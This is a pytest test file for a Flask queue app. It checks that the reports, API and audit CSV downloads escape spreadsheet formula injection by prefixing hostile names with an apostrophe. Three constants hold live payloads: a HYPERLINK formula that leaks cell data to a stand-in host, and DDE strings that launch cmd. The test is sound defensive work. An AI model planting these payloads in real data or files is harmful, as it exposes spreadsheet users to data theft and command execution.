"""CSV (formula) injection: a name someone typed never reaches a spreadsheet as a formula.

For every CSV download (the reports page's two, the API's ticket CSV, the admin audit trail):
a service, a counter and a staff member with hostile names take part in a day, the file is
downloaded through its route by the person it is for, read with `csv.reader`, and each hostile
cell starts with `'` while the ordinary names and the figures come out as they went in.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass

import pytest
from flask import Flask

from queue_app.extensions import db
from queue_app.models import Counter, Service, Site
from tests.conftest import Hall
from tests.helpers import bearer, make_counter, make_service, make_user, signed_in

SERVICE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
COUNTER_LABEL = "+1+cmd|' /C calc'!A0"
USERNAME = "@SUM(1+1)*cmd|' /C calc'!A0"
API = "/api/v1"


@dataclass
class HostileDay:
    """The small hall plus service H (hostile name) at counter 3 (hostile label), where the
    hostile clerk served H-001 while clerk1 served A-001; the day's date as the API gives it."""

    hall: Hall
    day: str


@pytest.fixture
def hostile_day(app: Flask, hall: Hall) -> HostileDay:
    with app.app_context():
        site = db.session.get(Site, hall.site_id)
        assert site is not None
        service: Service = make_service(db.session, site, "H")
        service.name_id = SERVICE_NAME
        counter: Counter = make_counter(db.session, site, 3, [service])
        counter.label = COUNTER_LABEL
        make_user(db.session, USERNAME, counters=[counter])
        db.session.commit()
        counter_3 = counter.id
    client = app.test_client()
    for code in ("H", "A"):
        assert client.post(f"{API}/tickets", json={"service": code}).status_code == 201
    for counter_id, username in ((counter_3, USERNAME), (hall.counter_1, "clerk1")):
        headers = bearer(app, username)
        called = client.post(f"{API}/counters/{counter_id}/call-next", headers=headers)
        assert called.status_code == 200, called.get_data(as_text=True)
        ticket_id = called.get_json()["id"]
        finished = client.post(f"{API}/tickets/{ticket_id}/finish", headers=headers)
        assert finished.status_code == 200
    day = client.get(f"{API}/board").get_json()["service_day"]
    return HostileDay(hall, day)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def by_column(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def test_the_reports_aggregates_csv(app: Flask, hostile_day: HostileDay) -> None:
    supervisor = signed_in(app, "super")
    response = supervisor.get(
        "/admin/reports/aggregates.csv", query_string={"date": hostile_day.day}
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = by_column(read_csv(response.get_data(as_text=True)))
    names = {(r["group"], r["key"]): r["name"] for r in rows}
    # hostile: prefixed, wherever they appear (the staff row has the username as key and name)
    assert names[("service", "H")] == "'" + SERVICE_NAME
    assert names[("counter", "3")] == "'" + COUNTER_LABEL
    assert names[("staff", "'" + USERNAME)] == "'" + USERNAME
    # ordinary: unchanged, figures still plain numbers
    assert names[("service", "A")] == "Layanan A"
    assert names[("counter", "1")] == "Loket 1"
    assert names[("staff", "clerk1")] == "clerk1"
    total = next(r for r in rows if r["group"] == "total")
    assert (total["issued"], total["served"]) == ("2", "2")


@pytest.mark.parametrize("route", ["/admin/reports/tickets.csv", f"{API}/reports/tickets.csv"])
def test_the_tickets_csv(app: Flask, hostile_day: HostileDay, route: str) -> None:
    query = {"date": hostile_day.day}
    if route.startswith(API):
        response = app.test_client().get(route, query_string=query, headers=bearer(app, "super"))
    else:
        response = signed_in(app, "super").get(route, query_string=query)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = {r["code"]: r for r in by_column(read_csv(response.get_data(as_text=True)))}
    assert rows["H-001"]["staff"] == "'" + USERNAME
    assert rows["A-001"]["staff"] == "clerk1"
    assert (rows["A-001"]["service"], rows["A-001"]["number"]) == ("A", "1")


def test_the_audit_csv(app: Flask, hostile_day: HostileDay) -> None:
    signed_in(app, USERNAME)  # a sign-in of the hostile account, audited under its name
    response = signed_in(app, "admin").get(
        "/admin/audit.csv", query_string={"date": hostile_day.day}
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = by_column(read_csv(response.get_data(as_text=True)))
    users = {r["user"] for r in rows}
    assert "'" + USERNAME in users and USERNAME not in users
    hostile_calls = [r for r in rows if r["action"] == "call" and r["subject"] == "H-001"]
    assert [(r["user"], r["counter"]) for r in hostile_calls] == [("'" + USERNAME, "3")]
    ordinary_calls = [r for r in rows if r["action"] == "call" and r["subject"] == "A-001"]
    assert [(r["user"], r["counter"]) for r in ordinary_calls] == [("clerk1", "1")]
    # the sign-in row's subject starts with the entity, so it is text already
    assert any(r["subject"] == f"session {USERNAME}" for r in rows)
